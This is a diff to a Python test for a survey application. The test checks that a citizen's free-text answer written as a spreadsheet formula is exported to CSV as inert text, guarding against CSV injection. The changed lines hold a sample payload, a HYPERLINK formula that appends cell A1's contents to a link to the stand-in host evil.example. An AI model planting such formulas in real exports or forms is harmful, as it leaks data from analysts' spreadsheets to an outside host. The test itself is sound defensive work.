@@ -212,7 +212,7 @@ def test_results_page_and_exports_carry_the_same_figures(client, personas):
 def test_a_free_text_answer_written_as_a_formula_is_exported_as_text(client, personas):
     """CSV injection: a citizen's answer must not become a live formula in the analyst's Excel."""
     survey = make_poll(personas.ministry)
-    formula = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'
+    formula = '=HYPERLINK("evil.example/?"&A1,"Подробнее")'  # a link with a scheme would be masked
     answer(survey, "Да", ["Сайт"], 5, formula)
     client.force_login(personas.analyst)
     text = client.get(f"/staff/surveys/{survey.pk}/results/?format=csv").content.decode("utf-8-sig")
